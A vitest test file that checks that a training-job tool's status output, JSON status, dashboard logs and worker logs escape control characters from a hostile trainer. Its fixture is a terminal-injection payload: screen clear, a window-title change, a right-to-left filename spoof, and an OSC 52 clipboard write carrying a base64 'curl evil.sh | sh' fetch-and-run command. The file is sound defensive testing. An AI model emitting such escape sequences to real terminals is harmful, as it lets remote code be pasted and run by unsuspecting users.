import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { useClusters } from './support/cluster-fixture.js';
import { http, serveDashboard } from './support/dashboard-client.js';
import { statusJson, statusText, waitForStatus } from './support/faults.js';

const { redis, cluster } = useClusters({ HYPEREVOLVE_LOCK_MS: '2000', HYPEREVOLVE_STALLED_MS: '1000' });

/** What a hostile or careless trainer prints: clear screen, a window title, an OSC 52 clipboard write, a C1 CSI, a carriage return, a right-to-left override. */
const NASTY = '\u001b[2J\u001b]0;owned\u0007\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u009b31mred\roverwritten\u202etxt.exe';
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/;

describe('a trainer\'s output never reaches a terminal raw', () => {
  it('status, status --json, the dashboard\'s log and the worker\'s and scheduler\'s logs show its control characters escaped', { timeout: 180_000 }, async () => {
    const c = await cluster('escapes');
    const trainer = join(c.dir, 'nasty.mjs');
    await writeFile(trainer, `process.stdout.write(${JSON.stringify(`${NASTY}\n`)}); process.exit(1);\n`);
    const { base, serve } = await serveDashboard(c, '127.0.0.1');
    const worker = c.worker();
    const enqueued = await c.cli(['enqueue', '--name', 'evil', '--generations', '1', '--attempts', '1', '--max-failures', '1', '--adapter', 'generic', '--out', c.outDir, '--', process.execPath, trainer]);
    expect(enqueued.code, enqueued.stderr).toBe(0);
    await waitForStatus(redis, c.prefix, 'evil', 'paused');

    const text = await statusText(c);
    expect(text).toContain('\\x1b[2J\\x1b]0;owned\\x07\\x1b]52;c;');
    expect(text).toContain('\\x9b31mred');
    expect(text).not.toMatch(RAW_CONTROL);

    const jsonText = (await c.cli(['status', '--json'])).stdout;
    expect(jsonText).not.toMatch(RAW_CONTROL);
    const failure = (await statusJson(c)).campaigns[0]?.recentFailures[0];
    expect(failure?.error).toContain('\\x1b]52;c;');

    const log = await http(`${base}/campaigns/evil/trials/0/log`);
    expect(log.status).toBe(200);
    expect(log.text).toContain('\\x1b[2J');
    expect(log.text).not.toMatch(RAW_CONTROL);

    await worker.waitForOutput(/trial failed/);
    for (const p of [worker, serve]) expect(p.output(), p.name).not.toMatch(RAW_CONTROL);
  });
});
